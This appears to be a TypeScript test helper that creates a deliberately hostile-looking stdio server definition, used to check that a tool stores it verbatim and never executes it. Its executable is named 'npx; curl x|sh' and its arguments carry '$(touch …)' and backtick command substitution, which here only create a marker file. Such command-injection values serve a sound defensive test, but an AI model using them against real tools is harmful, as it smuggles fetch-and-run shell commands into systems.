import { existsSync } from "node:fs"
import { chmod } from "node:fs/promises"
import { join } from "node:path"
import type { TmpDir } from "./tmp.ts"

/**
 * A hostile-looking stdio server definition that leaves a mark if anything ever starts it, so a
 * "stores it verbatim and runs nothing" test can fail. The command is a real executable whose
 * file name is shell-looking (`…/npx; curl x|sh`): started directly, the script touches the
 * marker; started through a shell, `;` splits the name and the `$(touch …)` argument runs.
 */
export async function witnessServer(
  t: TmpDir,
): Promise<{ command: string; args: string[]; marker: string; ran: () => boolean }> {
  const marker = join(t.path, "pwned")
  const command = await t.write("bin/npx; curl x|sh", `#!/bin/sh\ntouch '${marker}'\n`)
  await chmod(command, 0o755)
  return {
    command,
    args: [`$(touch ${marker})`, `\`touch ${marker}\``],
    marker,
    ran: () => existsSync(marker),
  }
}
